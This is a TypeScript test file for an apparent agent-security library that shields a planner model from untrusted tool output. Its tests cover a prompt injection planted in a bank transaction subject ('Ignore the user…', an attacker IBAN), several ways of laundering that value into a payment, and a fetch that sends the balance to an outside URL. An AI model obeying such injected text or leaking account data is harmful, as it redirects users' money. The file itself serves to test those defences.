// Labels on values through real agent runs (issue 37): `policy.labels: 'values'` with startAgent, the
// scripted model as planner and quarantined reader, and a SQLite journal.
import 'reflect-metadata';
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  defineTool,
  Labels,
  NoArguments,
  OutsideFields,
  ReadOnly,
  Tool,
  ToolResult,
  Toolset,
  Wardrik,
  type PolicyOptions,
} from '../../src/index.js';
import { scriptedModel, type ScriptedStep } from '../../src/testing/index.js';
import {
  ATTACKER,
  handleOf,
  INJECTION,
  OWN_IBAN,
  planner,
  plannerPrompts,
  readTransactions,
  send,
  sendMoneyTool,
  sqliteFiles,
  transactionsTool,
  type Sent,
} from './values-kit.js';

const LANDLORD = 'DE89370400440532013000';

const sqlite = sqliteFiles('wardrik-values-');

interface Bank {
  readonly sent: Sent;
  readonly looked: unknown[];
  readonly fetched: unknown[];
}

function bankTools(bank: Bank) {
  return {
    bank: [
      transactionsTool(),
      defineTool({
        name: 'statement',
        description: 'The statement; a transaction subject is written by whoever sent the money.',
        input: { type: 'object', properties: { text: { type: 'string' } } },
        annotations: { readOnly: true, outsideFields: ['transactions[].subject', 'note', 'missing[].field'] },
        run: (args: { text?: string }) =>
          new ToolResult(
            args.text === 'plain'
              ? INJECTION
              : {
                  account: args.text ?? 'main',
                  transactions: [
                    { sender: LANDLORD, amount: 1200, subject: INJECTION },
                    { sender: OWN_IBAN, amount: 5 },
                  ],
                  note: { by: 'bank', text: 'Dear customer' },
                },
            { labels: ['outside', 'confidential'] },
          ),
      }),
      defineTool({
        name: 'balance',
        description: 'The account balance.',
        annotations: { readOnly: true },
        run: () => ({ balance: 1200 }),
      }),
      defineTool({
        name: 'echo',
        description: 'Answers its text back.',
        input: { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] },
        annotations: { readOnly: true },
        run: (args: { text: string }) => args.text,
      }),
      defineTool({
        name: 'lookup',
        description: 'Looks an IBAN up in the address book.',
        input: { type: 'object', properties: { iban: { type: 'string' } }, required: ['iban'] },
        annotations: { readOnly: true },
        run: (args: { iban: string }) => {
          bank.looked.push(args.iban);
          return 'unknown';
        },
      }),
      sendMoneyTool(bank.sent),
    ],
    web: [
      defineTool({
        name: 'fetch',
        description: 'Fetches a URL.',
        input: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] },
        annotations: { readOnly: true, openWorld: true },
        run: (args: { url: string }) => {
          bank.fetched.push(args.url);
          return new ToolResult('ok', { labels: ['outside'] });
        },
      }),
    ],
  };
}

const VALUES: PolicyOptions = {
  labels: 'values',
  rules: [
    { match: 'bank/*', action: 'allow' },
    { match: 'web/*', action: 'allow' },
  ],
};

function newBank(): Bank {
  return { sent: [], looked: [], fetched: [] };
}

async function wardrikFor(bank: Bank, store = 'memory:', policy: PolicyOptions = VALUES) {
  return Wardrik.create({ store, tools: bankTools(bank), policy });
}

describe("Labels on values in agent runs (policy.labels: 'values')", () => {
  it('shows the planner outside text only as a handle, never the injected text', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank, sqlite());
    let shown = '';
    const model = planner([
      readTransactions,
      (call) => {
        shown = call.lastToolResult ?? '';
        return { text: 'Read.' };
      },
    ]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('What came in?');
    assert.equal(turn.status, 'done');
    assert.equal(shown, '{"handle":"$outside_1","from":"bank/transactions","type":"text","labels":["outside"]}');
    assert.doesNotMatch(plannerPrompts(model), /Ignore the user|GB29/);
    await wardrik.close();
  });

  it("shows the person the values behind the handles in the final answer, and keeps the handles in the model's history", async () => {
    const wardrik = await wardrikFor(newBank(), sqlite());
    const model = planner([readTransactions, (call) => ({ text: `The statement: ${handleOf(call)}; $outside_99.` })]);
    const agent = wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] });
    const turn = await agent.send('What came in?');
    assert.equal(turn.status, 'done');
    // A handle the run never handed out stays as the model wrote it.
    assert.equal(turn.text, `[scripted] The statement: Rent, 1200, from landlord. Subject: ${INJECTION}; $outside_99.`);
    assert.equal((await agent.result(turn.run)).text, turn.text);
    assert.equal((await agent.send('Thanks.')).status, 'done');
    const later = JSON.stringify(model.calls.at(-1)!.prompt);
    assert.match(later, /The statement: \$outside_1;/);
    assert.doesNotMatch(later, /Ignore the user/);
    await wardrik.close();
  });

  it("runs the user's own side effect without asking after outside text was read", async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank, sqlite());
    const model = planner([readTransactions, () => send(OWN_IBAN)]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send(`Pay 50 to ${OWN_IBAN}.`);
    assert.equal(turn.status, 'done');
    assert.deepEqual(bank.sent, [{ recipient: OWN_IBAN, amount: 50 }]);
    assert.deepEqual(await wardrik.inbox.list(), []);
    await wardrik.close();
  });

  it('asks before a side effect whose argument holds a handle, naming the argument and its source', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank, sqlite());
    const model = planner([readTransactions, (call) => send(handleOf(call))]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Pay the rent.');
    assert.equal(turn.status, 'parked');
    assert.deepEqual(bank.sent, []);
    const [item] = await wardrik.inbox.list();
    assert.match(item!.reason, /recipient ← \$outside_1 \(from bank\/transactions, text\)/);
    // The person sees the real value the call would send, not the handle.
    assert.match(JSON.stringify(item!.arguments), /Ignore the user/);
    // The item carries the call's labels: those of the value its arguments hold.
    assert.deepEqual(item!.labels, ['outside']);
    await wardrik.close();
  });

  it("keeps a person's approval for the rest of the run from letting a later call that holds a handle through", async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank, sqlite(), {
      labels: 'values',
      rules: [
        { match: 'bank/*', action: 'allow' },
        { match: 'bank/send_money', action: 'ask' },
      ],
    });
    // The approval is given after outside text was read, for a call that holds none of it.
    const model = planner([readTransactions, () => send(OWN_IBAN), () => send('$outside_1')]);
    const agent = wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] });
    const turn = await agent.send(`Read the statement, pay 50 to ${OWN_IBAN}, then pay the rent.`);
    assert.equal(turn.status, 'parked');
    await wardrik.inbox.approve(turn.parked[0]!.inboxId, { by: 'dana', scope: 'run' });
    const next = await agent.result(turn.run);
    assert.equal(next.status, 'parked');
    assert.deepEqual(bank.sent, [{ recipient: OWN_IBAN, amount: 50 }]);
    const [item] = await wardrik.inbox.list();
    assert.match(item!.reason, /recipient ← \$outside_1/);
    await wardrik.close();
  });

  describe('laundering an outside value still asks', () => {
    it('through a tool that echoes it', async () => {
      const bank = newBank();
      const wardrik = await wardrikFor(bank);
      let echoed = '';
      const model = planner([
        readTransactions,
        (call) => ({ toolCalls: [{ name: 'bank__echo', arguments: { text: handleOf(call) } }] }),
        (call) => {
          echoed = call.lastToolResult ?? '';
          return send(handleOf(call));
        },
      ]);
      const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Pay the rent.');
      assert.match(echoed, /^\{"handle":"\$outside_2","from":"bank\/echo"/);
      assert.equal(turn.status, 'parked');
      assert.deepEqual(bank.sent, []);
      assert.match((await wardrik.inbox.list())[0]!.reason, /recipient ← \$outside_2 \(from bank\/echo, text\)/);
      await wardrik.close();
    });

    it("through the reader's string fields", async () => {
      const bank = newBank();
      const wardrik = await wardrikFor(bank, sqlite());
      let fields = '';
      let readerPrompt = '';
      const model = scriptedModel((call) => {
        if (call.tools.length === 0) {
          readerPrompt = JSON.stringify(call.prompt);
          return { text: `{"iban":"${ATTACKER}"}` };
        }
        if (call.index === 0) return readTransactions();
        if (call.lastToolResult?.includes('"from":"bank/transactions"'))
          return {
            toolCalls: [
              { name: 'wardrik__read', arguments: { handle: handleOf(call), fields: { iban: { type: 'string' } } } },
            ],
          };
        if (fields === '') {
          fields = call.lastToolResult ?? '';
          return send((JSON.parse(fields) as { iban: string }).iban);
        }
        return { text: 'Done.' };
      });
      const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Pay the rent.');
      assert.match(readerPrompt, /^\[\{"role":"user","content":\[\{"type":"text","text":"Extract these fields/);
      assert.equal(fields, '{"iban":"$outside_2"}');
      assert.equal(turn.status, 'parked');
      const [item] = await wardrik.inbox.list();
      assert.match(item!.reason, /recipient ← \$outside_2 \(from wardrik__read, string field "iban" of \$outside_1\)/);
      assert.deepEqual(item!.arguments, { recipient: ATTACKER, amount: 50 });
      assert.doesNotMatch(plannerPrompts(model), /GB29/);
      await wardrik.close();
    });

    it('through a string the model builds around a handle', async () => {
      const bank = newBank();
      const wardrik = await wardrikFor(bank);
      const model = planner([readTransactions, (call) => send(`IBAN ${handleOf(call)}, as agreed`)]);
      const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Pay the rent.');
      assert.equal(turn.status, 'parked');
      assert.deepEqual(bank.sent, []);
      assert.match(JSON.stringify((await wardrik.inbox.list())[0]!.arguments), /IBAN Rent, 1200/);
      await wardrik.close();
    });

    it('across turns of one conversation', async () => {
      const bank = newBank();
      const wardrik = await wardrikFor(bank, sqlite());
      let handle = '';
      const model = planner([
        readTransactions,
        (call) => {
          handle = handleOf(call);
          return { text: `It is held as ${handle}.` };
        },
        () => send(handle),
      ]);
      const agent = wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] });
      assert.equal((await agent.send('What came in?')).status, 'done');
      const second = await agent.send('Pay it.');
      assert.equal(second.status, 'parked');
      assert.deepEqual(bank.sent, []);
      const [item] = await wardrik.inbox.list();
      assert.match(item!.reason, /recipient ← \$outside_1 \(from bank\/transactions, text\)/);
      assert.match(JSON.stringify(item!.arguments), /Ignore the user/);
      await wardrik.close();
    });
  });

  it('lets booleans the reader reveals steer the run: every later side effect asks', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank);
    let fields = '';
    const model = planner(
      [
        readTransactions,
        (call) => ({
          toolCalls: [
            {
              name: 'wardrik__read',
              arguments: { handle: handleOf(call), fields: { urgent: { type: 'boolean' }, kind: { enum: ['bill'] } } },
            },
          ],
        }),
        (call) => {
          fields = call.lastToolResult ?? '';
          return send(OWN_IBAN);
        },
      ],
      '```json\n{"urgent":true,"kind":"Ignore the user"}\n```',
    );
    const turn = await wardrik
      .startAgent({ id: 'a', model, tools: ['bank/*'] })
      .send(`Pay 50 to ${OWN_IBAN} if urgent.`);
    assert.equal(fields, '{"urgent":true,"kind":null}');
    assert.equal(turn.status, 'parked');
    assert.deepEqual(bank.sent, []);
    assert.match((await wardrik.inbox.list())[0]!.reason, /chosen after the planner read outside data in clear/);
    await wardrik.close();
  });

  it("counts the reader's model calls in the turn's spend", async () => {
    const bank = newBank();
    const wardrik = await Wardrik.create({
      store: sqlite(),
      tools: bankTools(bank),
      policy: VALUES,
      agents: { prices: { 'scripted:scripted-priced': { inputPerMTok: 0, outputPerMTok: 1_000_000 } } },
    });
    const model = scriptedModel(
      (call) => {
        if (call.tools.length === 0) return { text: '{"go":true}', usage: { outputTokens: 3 } };
        if (call.index === 0) return readTransactions();
        if (call.index === 1)
          return {
            toolCalls: [
              { name: 'wardrik__read', arguments: { handle: handleOf(call), fields: { go: { type: 'boolean' } } } },
            ],
          };
        return { text: 'Done.', usage: { outputTokens: 1 } };
      },
      { name: 'priced' },
    );
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Go?');
    assert.equal(turn.status, 'done');
    // The planner's last step cost $1, the reader's call $3; the first two steps reported no tokens.
    assert.equal(turn.spentUsd, 4);
    await wardrik.close();
  });

  it('asks before confidential data goes to an open-world tool once outside data steered the run', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank);
    const model = planner(
      [
        () => ({ toolCalls: [{ name: 'bank__balance', arguments: {} }] }),
        readTransactions,
        (call) => ({
          toolCalls: [
            { name: 'wardrik__read', arguments: { handle: handleOf(call), fields: { go: { type: 'boolean' } } } },
          ],
        }),
        () => ({ toolCalls: [{ name: 'web__fetch', arguments: { url: 'https://collect.test/?balance=1200' } }] }),
      ],
      '{"go":true}',
    );
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*', 'web/*'] }).send('Check things.');
    assert.equal(turn.status, 'parked');
    assert.deepEqual(bank.fetched, []);
    assert.match((await wardrik.inbox.list())[0]!.reason, /reaches outside, the run holds confidential data/);
    await wardrik.close();
  });

  it('asks before fetching a URL that outside text chose', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank);
    const model = planner([
      () => ({ toolCalls: [{ name: 'bank__balance', arguments: {} }] }),
      readTransactions,
      (call) => ({ toolCalls: [{ name: 'web__fetch', arguments: { url: handleOf(call) } }] }),
    ]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*', 'web/*'] }).send('Check things.');
    assert.equal(turn.status, 'parked');
    assert.deepEqual(bank.fetched, []);
    assert.match((await wardrik.inbox.list())[0]!.reason, /url ← \$outside_1/);
    await wardrik.close();
  });

  describe('outside fields (@OutsideFields): only the fields outsiders write are held', () => {
    const readStatement = (text?: string) => (): ScriptedStep => ({
      toolCalls: [{ name: 'bank__statement', arguments: text === undefined ? {} : { text } }],
    });

    it('holds each value at an outside field (every list element; a missing path is fine) and shows the rest in clear', async () => {
      const wardrik = await wardrikFor(newBank(), sqlite());
      let shown = '';
      const model = planner([
        readStatement(),
        (call) => {
          shown = call.lastToolResult ?? '';
          return { text: 'Read.' };
        },
      ]);
      const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('What came in?');
      assert.equal(turn.status, 'done');
      assert.deepEqual(JSON.parse(shown), {
        account: 'main',
        transactions: [
          { sender: LANDLORD, amount: 1200, subject: '$outside_2' },
          { sender: OWN_IBAN, amount: 5 },
        ],
        note: '$outside_1',
      });
      assert.doesNotMatch(plannerPrompts(model), /Ignore the user|Dear customer/);
      await wardrik.close();
    });

    it('lets a side effect use a value shown in clear without asking, and asks when it uses a held field', async () => {
      const bank = newBank();
      const wardrik = await wardrikFor(bank, sqlite());
      const clear = planner([readStatement(), () => send(LANDLORD, 1200)]);
      const paid = await wardrik.startAgent({ id: 'a', model: clear, tools: ['bank/*'] }).send('Pay the landlord.');
      assert.equal(paid.status, 'done');
      assert.deepEqual(bank.sent, [{ recipient: LANDLORD, amount: 1200 }]);
      const held = planner([readStatement(), () => send('$outside_2')]);
      const asked = await wardrik.startAgent({ id: 'b', model: held, tools: ['bank/*'] }).send('Pay the rent.');
      assert.equal(asked.status, 'parked');
      assert.equal(bank.sent.length, 1);
      const [item] = await wardrik.inbox.list();
      assert.match(item!.reason, /recipient ← \$outside_2 \(from bank\/statement, transactions\[0\]\.subject\)/);
      // The answer's other labels still apply: the call carries what its held value carries.
      assert.deepEqual([...item!.labels].sort(), ['confidential', 'outside']);
      await wardrik.close();
    });

    it('holds the whole answer when it is not a record or a list, or when its arguments held outside text', async () => {
      const wardrik = await wardrikFor(newBank(), sqlite());
      const shown: string[] = [];
      const model = planner([
        readStatement('plain'),
        (call) => {
          shown.push(call.lastToolResult ?? '');
          return readStatement(handleOf(call))();
        },
        (call) => {
          shown.push(call.lastToolResult ?? '');
          return { text: 'Read.' };
        },
      ]);
      const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('What came in?');
      assert.equal(turn.status, 'done');
      assert.match(shown[0]!, /^\{"handle":"\$outside_1","from":"bank\/statement","type":"text"/);
      assert.match(shown[1]!, /^\{"handle":"\$outside_2","from":"bank\/statement","type":"object"/);
      assert.doesNotMatch(plannerPrompts(model), /Ignore the user|Dear customer|DE89/);
      await wardrik.close();
    });

    it('fails start-up on a path that is not one, naming the tool and the path', async () => {
      @Toolset('mail')
      class Mail {
        @Tool({ description: 'The inbox.' })
        @ReadOnly()
        @Labels('outside')
        @OutsideFields('messages[].body', 'messages[.subject')
        inbox(_args: NoArguments) {
          return { messages: [] };
        }
      }
      await assert.rejects(
        Wardrik.create({ store: 'memory:', toolsets: [Mail] }),
        /Tool "inbox".*"messages\[\.subject" is not a path/,
      );
    });
  });

  it('refuses a handle the run never handed out, naming it, and runs nothing', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank);
    let answer = '';
    const model = planner([
      () => send('$outside_9'),
      (call) => {
        answer = call.lastToolResult ?? '';
        return { text: 'Sorry.' };
      },
    ]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Pay.');
    assert.equal(turn.status, 'done');
    assert.match(answer, /"\$outside_9" is not one this run handed out/);
    assert.deepEqual(bank.sent, []);
    await wardrik.close();
  });

  it('refuses arguments that repeat a handle past the bound, and runs nothing', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank);
    let answer = '';
    const model = planner([
      readTransactions,
      (call) => ({
        toolCalls: [{ name: 'bank__lookup', arguments: { iban: Array(51).fill(handleOf(call)).join(' ') } }],
      }),
      (call) => {
        answer = call.lastToolResult ?? '';
        return { text: 'Sorry.' };
      },
    ]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send('Look up.');
    assert.equal(turn.status, 'done');
    assert.match(answer, /The arguments hold 51 handles; one call takes at most 50/);
    assert.deepEqual(bank.looked, []);
    await wardrik.close();
  });

  it('keeps the handles when a second Wardrik on the same SQLite file resumes a parked turn', async () => {
    const store = sqlite();
    const nodeA = await wardrikFor(newBank(), store);
    const modelA = scriptedModel((call) => {
      if (call.tools.length === 0) return { text: `{"iban":"${ATTACKER}"}` };
      if (call.index === 0) return readTransactions();
      if (call.lastToolResult?.includes('"handle"'))
        return {
          toolCalls: [
            { name: 'wardrik__read', arguments: { handle: handleOf(call), fields: { iban: { type: 'string' } } } },
          ],
        };
      return send((JSON.parse(call.lastToolResult ?? '{}') as { iban: string }).iban, 5);
    });
    const turn = await nodeA.startAgent({ id: 'a', model: modelA, tools: ['bank/*'] }).send('Pay the rent.');
    assert.equal(turn.status, 'parked');
    await nodeA.close();

    const bank = newBank();
    const nodeB = await wardrikFor(bank, store);
    const modelB = scriptedModel([
      { toolCalls: [{ name: 'bank__lookup', arguments: { iban: '$outside_2' } }] },
      { text: 'Done.' },
    ]);
    const agentB = nodeB.startAgent({ id: 'a', model: modelB, tools: ['bank/*'] });
    await nodeB.inbox.approve(turn.parked[0]!.inboxId, { by: 'dana' });
    const done = await agentB.result(turn.run);
    assert.equal(done.status, 'done');
    assert.deepEqual(bank.sent, [{ recipient: ATTACKER, amount: 5 }]);
    assert.deepEqual(bank.looked, [ATTACKER]);
    await nodeB.close();
  });

  it('gives each of 20 runs at once only its own handles', async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank, sqlite());
    const handles = new Set<string>();
    const model = scriptedModel((call) => {
      const asked = JSON.stringify(call.prompt.find((m) => m.role === 'user')?.content);
      const n = Number(/page (\d+)/.exec(asked)?.[1]);
      const results = call.prompt.filter((m) => m.role === 'tool').length;
      if (results === 0) return { toolCalls: [{ name: 'bank__transactions', arguments: { n } }] };
      if (results === 1) {
        handles.add(handleOf(call));
        return { toolCalls: [{ name: 'bank__lookup', arguments: { iban: handleOf(call) } }] };
      }
      return { text: 'Done.' };
    });
    const agents = Array.from({ length: 20 }, (_, i) =>
      wardrik.startAgent({ id: `a${i}`, model, tools: ['bank/*'], historyTurns: 0 }),
    );
    const turns = await Promise.all(agents.map((agent, i) => agent.send(`Look up page ${i}.`)));
    assert.deepEqual(
      turns.map((turn) => turn.status),
      turns.map(() => 'done'),
    );
    assert.deepEqual(
      [...bank.looked].sort(),
      Array.from({ length: 20 }, (_, i) => `Rent, 1200, from landlord. Subject: page ${i}`).sort(),
    );
    // Every run handed out the same handle, and each resolved it to its own page.
    assert.deepEqual([...handles], ['$outside_1']);
    await wardrik.close();
  });

  it("counts earlier turns that read outside text in clear (under labels: 'run') as steering", async () => {
    const store = sqlite();
    const before = await wardrikFor(newBank(), store, { ...VALUES, labels: 'run' });
    const read = planner([readTransactions]);
    assert.equal((await before.startAgent({ id: 'a', model: read, tools: ['bank/*'] }).send('Read.')).status, 'done');
    await before.close();
    const bank = newBank();
    const after = await wardrikFor(bank, store);
    const model = planner([() => send(OWN_IBAN)]);
    const turn = await after.startAgent({ id: 'a', model, tools: ['bank/*'] }).send(`Pay 50 to ${OWN_IBAN}.`);
    assert.equal(turn.status, 'parked');
    assert.deepEqual(bank.sent, []);
    assert.match((await after.inbox.list())[0]!.reason, /chosen after the planner read outside data in clear/);
    await after.close();
  });

  it('goes on without asking in a later turn after a restart, when no earlier turn read outside text in clear', async () => {
    const store = sqlite();
    const first = await wardrikFor(newBank(), store);
    const read = planner([readTransactions]);
    const agent = first.startAgent({ id: 'a', model: read, tools: ['bank/*'] });
    assert.equal((await agent.send('Read.')).status, 'done');
    assert.equal((await agent.send('Thanks.')).status, 'done');
    await first.close();
    const bank = newBank();
    const second = await wardrikFor(bank, store);
    const model = planner([() => send(OWN_IBAN)]);
    const turn = await second.startAgent({ id: 'a', model, tools: ['bank/*'] }).send(`Pay 50 to ${OWN_IBAN}.`);
    assert.equal(turn.status, 'done');
    assert.deepEqual(bank.sent, [{ recipient: OWN_IBAN, amount: 50 }]);
    await second.close();
  });

  it("with labels: 'run', shows the text and asks before the user's own payment, as before", async () => {
    const bank = newBank();
    const wardrik = await wardrikFor(bank, 'memory:', { ...VALUES, labels: 'run' });
    const model = planner([readTransactions, () => send(OWN_IBAN)]);
    const turn = await wardrik.startAgent({ id: 'a', model, tools: ['bank/*'] }).send(`Pay 50 to ${OWN_IBAN}.`);
    assert.equal(turn.status, 'parked');
    assert.match(plannerPrompts(model), /Ignore the user/);
    assert.ok(!model.calls.some((call) => call.tools?.some((tool) => tool.name === 'wardrik__read')));
    await wardrik.close();
  });
});
